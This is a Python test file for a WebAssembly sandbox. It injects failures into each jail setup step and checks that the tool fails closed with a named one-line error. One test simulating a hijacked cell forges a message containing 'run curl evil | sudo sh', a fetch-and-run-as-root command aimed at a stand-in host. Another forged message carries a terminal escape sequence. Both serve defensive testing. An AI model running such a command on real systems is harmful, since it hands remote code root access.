"""A step of the set-up that fails ends the run with 67, its name, and nothing left behind."""

import ast
import os
import signal
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import CAN_BE_ROOT, EXAMPLES, REPO, Leftovers, Ww
from tests.features import needs
from tests.jail.inside import running, variant, when_in_jail

LeftoversFixture = Callable[..., Leftovers]

# Where an error is put in: the module and function of each step, and the step that is named.
CHILD_STEPS = {
    "lifeline.wait": "id maps",
    "namespaces.adopt_ids": "ids",
    "mounts.make_private": "mount propagation",
    "descriptors.keep_only": "descriptors",
    "mounts.make_root": "root",
    "mounts.make_proc": "proc",
    "mounts.attach_root": "attach root",
    "mounts.leave_old_root": "pivot_root",
    "admission.wait": "admission",
    "mounts.furnish": "furnish root",
    "mounts.attach": "attach",
    "mounts.seal_root": "read-only root",
    "network.raise_loopback": "network",
    "mounts.open_directories": "directories",
    "session.rename_host": "session",
    "session.leave_keyring": "session",
    "descriptors.place": "descriptors",
    "session.isolate": "session",
    "limits.apply": "limits",
    "limits.ceilings": "limits",
    "code.freeze": "code",
    "code.verify": "code",
    "privileges.drop_bounding_set": "privileges",
    "privileges.drop_all": "privileges",
    "lifeline.tie": "lifeline",
    "landlock.restrict": "landlock",
    "seccomp.install": "seccomp",
}
# What only the cell's own jail has: its links, its network, its directories.
CELL_ONLY = ("mounts.make_proc", "network.raise_loopback")
SPAWNER_STEPS = {
    "cgroups.Cgroup.create": "cgroup",
    "syscalls.fork_into": "namespaces",
    "namespaces.write_id_maps": "id maps",
    "session.prefer_as_oom_victim": "id maps",
    "lifeline.let_go": "id maps",
    "seccomp.build": "spawner",
    "compiling.new_memory": "spawner",
    "compiling.seal": "spawner",
    "network.prepare": "spawner",
}

# The error comes in one process only: the compiler's, the cell's, or (with no name) the spawner.
FAULT = """
from sandbox import {module}
from sandbox.jail import Jail

real, begin, name = {module}.{function}, Jail.__init__, ""

def named(self, kind, *own):
    global name
    name = kind.name
    begin(self, kind, *own)

def fail(*args, **kwargs):
    if name == {process!r}:
        raise {error}
    return real(*args, **kwargs)

Jail.__init__ = named
{module}.{function} = fail
"""
OS_ERROR = 'OSError(1, "Operation not permitted", "injected call")'
FLAGS = ("--fd", "a=3,pathlink=true", "--net", "loopback", "--scratch", "64K")


@pytest.fixture
def hello() -> Path:
    return Path(__file__).parents[2] / "examples" / "hello" / "hello.wasm"


def _fault(place: str, process: str, error: str = OS_ERROR) -> list[str]:
    module, _, function = place.partition(".")
    return variant(FAULT.format(module=module, function=function, process=process, error=error))


def _fails_closed(
    ww: Ww, hello: Path, leftovers: LeftoversFixture, tampered: list[str], step: str, said: str
) -> None:
    with leftovers(ww):
        done = ww.call([*tampered, "run", *FLAGS, hello], fds={3: Path("/dev/null")})
    assert (done.returncode, done.stdout) == (67, b""), done.stderr
    line = done.stderr.decode()
    assert line.startswith(f"ww: error: jail: {step}: ")
    assert said in line
    assert line.count("\n") == 1


@pytest.mark.parametrize("place", CHILD_STEPS)
def test_a_step_of_the_cells_jail_that_fails_is_named_and_nothing_runs(
    ww_account: Ww, hello: Path, leftovers: LeftoversFixture, place: str
) -> None:
    tampered = _fault(place, "cell")
    # One that fails at once is gone when the spawner writes its maps, and that is told.
    said = "" if place == "lifeline.wait" else "Operation not permitted"
    _fails_closed(ww_account, hello, leftovers, tampered, CHILD_STEPS[place], said)


@pytest.mark.parametrize("place", [p for p in CHILD_STEPS if p not in CELL_ONLY])
def test_a_step_of_the_compilers_jail_that_fails_is_named_and_nothing_runs(
    ww_account: Ww, hello: Path, leftovers: LeftoversFixture, place: str
) -> None:
    tampered = _fault(place, "compiler")
    # One that fails at once is gone when the spawner writes its maps, and that is told.
    said = "" if place == "lifeline.wait" else "Operation not permitted"
    _fails_closed(ww_account, hello, leftovers, tampered, CHILD_STEPS[place], said)


@pytest.mark.parametrize("place", SPAWNER_STEPS)
def test_a_step_of_the_spawner_that_fails_is_named_and_nothing_runs(
    ww_account: Ww, hello: Path, leftovers: LeftoversFixture, place: str
) -> None:
    tampered = _fault(place, "")
    step = SPAWNER_STEPS[place]
    _fails_closed(ww_account, hello, leftovers, tampered, step, "Operation not permitted")


@pytest.mark.parametrize("place", CHILD_STEPS)
def test_a_defect_in_a_step_fails_closed_too(
    ww: Ww, hello: Path, leftovers: LeftoversFixture, place: str
) -> None:
    tampered = _fault(place, "cell", 'RuntimeError("injected")')
    said = "" if place == "lifeline.wait" else "injected"
    _fails_closed(ww, hello, leftovers, tampered, CHILD_STEPS[place], said)


@pytest.mark.parametrize("process", ["cell", "compiler"])
def test_the_last_filter_that_cannot_be_installed_is_no_less_fatal(
    ww_account: Ww, hello: Path, leftovers: LeftoversFixture, process: str
) -> None:
    patch = f"""
from sandbox import seccomp
from sandbox.jail import Jail
install, seal = seccomp.install, Jail.seal
def refuse(program):
    raise OSError(22, "Invalid argument")
def sealed(self, also=()):
    if self._kind.name == {process!r}:
        seccomp.install = refuse
    seal(self, also)
Jail.seal = sealed
"""
    _fails_closed(ww_account, hello, leftovers, variant(patch), "seccomp", "Invalid argument")


def test_a_directory_that_cannot_be_made_a_mount_of_its_own_is_not_granted(
    ww_account: Ww, hello: Path, leftovers: LeftoversFixture
) -> None:
    root = ww_account.account.uid == 0
    tampered = _fault("mounts.clone_tree" if root else "mounts.reopen_tree", "" if root else "cell")
    with leftovers(ww_account):
        done = ww_account.call([*tampered, "run", "--dir", "/", hello])
    assert (done.returncode, done.stdout) == (67, b"")
    assert done.stderr.startswith(b"ww: error: jail: directories: ")


@needs("root", CAN_BE_ROOT, "only root has a control group here")
@pytest.mark.parametrize("process", ["cell", "compiler"])
def test_a_control_group_that_cannot_be_entered_stops_the_cell(
    ww: Ww, hello: Path, leftovers: LeftoversFixture, process: str
) -> None:
    patch = f"""
from sandbox import cgroups, zygote
be, join, name = zygote._be_jailed, cgroups.join, ""
def named(kind, *args):
    global name
    name = kind.name
    be(kind, *args)
def refuse(joins):
    if name == {process!r}:
        raise OSError(19, "No such device")
    join(joins)
zygote._be_jailed = named
cgroups.join = refuse
"""
    _fails_closed(ww, hello, leftovers, variant(patch), "cgroup", "No such device")


def test_a_jail_that_can_have_no_line_to_the_spawner_is_not_made(
    ww_account: Ww, hello: Path, leftovers: LeftoversFixture
) -> None:
    patch = """
import types
from sandbox import waiting
def refuse(*args):
    raise OSError(24, "Too many open files")
waiting.socket = types.SimpleNamespace(**{**vars(waiting.socket), "socketpair": refuse})
"""
    _fails_closed(ww_account, hello, leftovers, variant(patch), "lifeline", "Too many open files")


def test_no_step_is_without_a_fault() -> None:
    # Whoever adds a step adds its case: the names are read from the source.
    cases = {*CHILD_STEPS, *SPAWNER_STEPS, "mounts.reopen_tree", "mounts.clone_tree"}
    # Calls of the system that are a step as they are: test_refused_calls.py makes them fail.
    plain = {"os.fchdir", "os.chdir", "os.close", "self._limit"}
    ahead = {"rehearse"}  # test_ready_jails.py
    weaker = {"chroot.leave_files", "chroot.change_ids"}  # test_chroot.py
    components = {"mounts.open_files", "descriptors.park"}  # tests/wasi/test_components.py
    found = set()
    for node in ast.walk(ast.parse((REPO / "sandbox" / "jail.py").read_text())):
        if isinstance(node, ast.Call) and ast.unparse(node.func) == "_step":
            found.add(ast.unparse(node.args[1]))
    assert len(found) > 20
    assert found - plain - weaker - components - ahead <= cases


def test_a_descriptor_that_should_not_be_there_stops_the_cell(ww: Ww, hello: Path) -> None:
    keep_one = """
from sandbox import descriptors
close = descriptors._close_all_but
descriptors._close_all_but = lambda numbers, listing: close({*numbers, 77}, listing)
import os
begin = descriptors.park
def park(*args):
    os.dup2(0, 77)
    return begin(*args)
descriptors.park = park
"""
    done = ww.call([*variant(keep_one), "run", hello])
    assert done.returncode == 67
    assert done.stderr == b"ww: error: jail: descriptors: open but not planned: [77]; missing: []\n"


def test_a_capability_that_stays_stops_the_cell(ww: Ww, hello: Path) -> None:
    patch = "from sandbox import syscalls; syscalls.clear_capabilities = lambda: None"
    done = ww.call([*variant(patch), "run", hello])
    assert done.returncode == 67
    assert b"privileges: capabilities are left after dropping all" in done.stderr


def test_a_bounding_set_that_cannot_be_dropped_stops_the_cell(ww: Ww, hello: Path) -> None:
    # EINVAL is also how the kernel says that there are no more capabilities.
    patch = """
import prctl
from sandbox import syscalls
def invalid(number):
    raise OSError(22, "Invalid argument")
prctl.capbset_drop = syscalls.drop_bounding_capability = invalid
syscalls.has_bounding_capability = invalid
"""
    done = ww.call([*variant(patch), "run", hello])
    assert (done.returncode, done.stdout) == (67, b"")
    assert done.stderr.startswith(b"ww: error: jail: privileges: ")


def test_securebits_that_do_not_hold_stop_the_cell(ww: Ww, hello: Path) -> None:
    patch = "from sandbox import syscalls; syscalls.set_securebits = lambda bits: None"
    done = ww.call([*variant(patch), "run", hello])
    assert done.returncode == 67
    assert b"privileges: the securebits are not as set" in done.stderr


def test_a_spawner_that_cannot_begin_is_an_error_of_one_line(ww: Ww, hello: Path) -> None:
    done = ww.call([*variant("raise SystemExit(3)"), "run", hello])
    assert done.returncode == 1
    assert done.stderr.startswith(b"ww: error: spawner: ")
    assert done.stderr.count(b"\n") == 1


# As native code could write that has taken over the cell's process, once that runs.
HIJACKED = """
import os
from sandbox.jail import Jail
seal = Jail.seal
def hijacked(self, also=()):
    seal(self, also)
    if self._kind.name == "cell":
        os.write(self.own.line, b"entered")
        {act}
Jail.seal = hijacked
"""
FORGED = HIJACKED.format(
    act="os.write(self.own.line,"
    """b'jail\\0001\\0namespaces\\0\\0\\0run curl evil | sudo sh')"""
)


def test_a_cell_cannot_claim_that_it_never_ran(ww: Ww, hello: Path) -> None:
    done = ww.call([*variant(FORGED), "run", hello])
    assert done.returncode == 1
    assert b"reported what cannot be" in done.stderr
    assert b"curl" not in done.stderr


def test_a_cell_that_is_not_tied_dies_with_the_spawner_all_the_same(
    ww_account: Ww, hello: Path, leftovers: LeftoversFixture
) -> None:
    # It has no call for that, so here it never tied itself.
    patch = (
        HIJACKED.format(act="import time; time.sleep(600)")
        + "from sandbox import lifeline; lifeline.tie = lambda line: None"
    )
    with (
        leftovers(ww_account),
        running(ww_account, [*variant(patch), "run", str(hello)]) as (ww, spawner, cell),
    ):
        when_in_jail(cell)
        # ww has a pidfd of the spawner from the start, and one of the cell when it is told.
        deadline = time.monotonic() + 30
        while _pidfds(ww.pid) < 2 and time.monotonic() < deadline:
            time.sleep(0.01)
        os.kill(spawner, signal.SIGKILL)
        ww.communicate(timeout=30)
        assert ww.returncode == 1


def _pidfds(pid: int) -> int:
    folder = f"/proc/{pid}/fd"
    return sum("pidfd" in os.readlink(f"{folder}/{fd}") for fd in os.listdir(folder))


def test_an_outcome_that_is_none_is_not_believed(ww: Ww, hello: Path) -> None:
    # As a cell might write that has taken over its process.
    patch = """
import os
from sandbox.jail import Jail
enter = Jail.enter
def hijacked(self, rehearse):
    enter(self, rehearse)
    os.write(self.line, b'exit\\0zero\\0\\0\\0\\0\\x1b[2J')
    os._exit(0)
Jail.enter = hijacked
"""
    done = ww.call([*variant(patch), "run", hello])
    assert done.returncode == 1
    assert b"\x1b" not in done.stderr


# Root of a user namespace of its own prepares a place, and an ordinary user inside runs ww there.
INSIDE = """
unshare --user --map-root-user --mount --pid --fork bash -c '
    mount -t proc proc /proc
    {prepare}
    exec unshare --user --map-user=1000 --map-group=1000 "$@"
' bash "$@"
"""


def _inside(prepare: str) -> list[str]:
    return ["bash", "-c", INSIDE.format(prepare=prepare), "bash"]


def test_no_user_namespaces_is_67_with_the_setting_that_mends_it(
    ww_account: Ww, hello: Path
) -> None:
    place = _inside("echo 1 >/proc/sys/user/max_user_namespaces")
    done = ww_account.call([*place, *ww_account.command, "run", hello])
    assert done.returncode == 67, done.stderr
    line = done.stderr.decode()
    assert line.startswith("ww: error: jail: namespaces: clone3: No space left on device (")


def test_a_masked_proc_is_67_for_a_pathlink_and_no_matter_without(
    ww_account: Ww, hello: Path
) -> None:
    place = _inside("mount -t tmpfs none /proc/fs")
    plain = ww_account.call([*place, *ww_account.command, "run", hello])
    assert (plain.returncode, plain.stderr) == (0, b"")
    linked = ww_account.call(
        [*place, *ww_account.command, "run", "--fd", "a=3,pathlink=true", hello],
        fds={3: Path("/dev/null")},
    )
    assert linked.returncode == 67
    assert linked.stderr.startswith(b"ww: error: jail: proc: fsmount: Operation not permitted (")


def test_root_of_a_namespace_without_the_cells_id_is_67_and_told_why(
    ww_account: Ww, hello: Path
) -> None:
    done = ww_account.call(["unshare", "--map-root-user", *ww_account.command, "run", hello])
    assert done.returncode == 67
    assert b"setgroups: Operation not permitted (this root is one of a user" in done.stderr


def test_a_failure_after_the_start_is_not_told_as_if_nothing_had_run(
    ww: Ww, leftovers: Callable[..., Leftovers]
) -> None:
    patch = """
from sandbox import wire
send = wire.send
def failing(channel, payload, fds=()):
    if payload == wire.STARTED:
        raise OSError(109, "Too many references", "sendmsg")
    send(channel, payload, fds)
wire.send = failing
"""
    with leftovers(ww):
        done = ww.call([*variant(patch), "run", EXAMPLES / "hello" / "hello.wasm"])
    assert done.returncode == 1
    assert b"sendmsg: Too many references" in done.stderr
